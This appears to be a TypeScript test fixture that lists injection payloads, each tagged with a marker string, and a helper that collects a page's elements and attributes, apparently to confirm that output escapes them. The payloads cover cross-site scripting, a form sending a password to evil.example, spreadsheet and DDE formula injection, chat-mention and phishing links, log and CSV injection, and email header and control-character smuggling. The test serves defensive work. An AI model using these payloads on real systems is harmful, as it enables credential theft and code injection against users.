// Texts that try to become more than text, and the elements that a page has in the end.

/** In each attack, so that it is found wherever it ends up. */
export const MARK = "m4rk";
/** Texts of one line. */
export const ATTACKS = [
  `<script>${MARK}()</script>`,
  `"><img src=x onerror=${MARK}()>`,
  `' autofocus onfocus='${MARK}()`,
  `</p></main><form action="https://evil.example/${MARK}"><input name=password>`,
  `</title><style>*{background:url(//evil.example/${MARK})}</style>`,
  `<a href="javascript:${MARK}()">x</a>`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `{{${MARK}}} \${${MARK}} <%= ${MARK} %> \`${MARK}\``,
  `<!channel> <@U1234> <https://evil.example/${MARK}|Bank>`,
  `@everyone @here <@&1> [Bank](https://evil.example/${MARK})`,
  `=HYPERLINK("https://evil.example/${MARK}","Bank")`,
  `+1+cmd|' /C ${MARK}'!A0`,
  `-2+3;=${MARK}`,
  `@SUM(1+1)*${MARK}`,
  `a","b","${MARK}`,
  `{"level":"error","message":"${MARK}"}`,
  `${MARK}\\u0022\\n\\"`,
];
/** Refused in a line; allowed in metadata, where they must do no harm. */
export const CONTROLS = [
  `${MARK}\r\nBcc: victim@example.com\r\n\r\nText`,
  `${MARK}\u0000\u0007\u001b[31m`,
  `\u202e${MARK}\u2066\u200f`,
  `${MARK}\u2028{"level":"error"}`,
];

/** The elements of a page with the names of their attributes. */
export async function elementsIn(page: string): Promise<string[]> {
  const found: string[] = [];
  const rewriter = new HTMLRewriter().on("*", {
    element: (element) => {
      const names = [...element.attributes].map(([name]) => name);
      found.push([element.tagName, ...names].join(" "));
    },
  });
  await rewriter.transform(new Response(page)).text();
  return found;
}
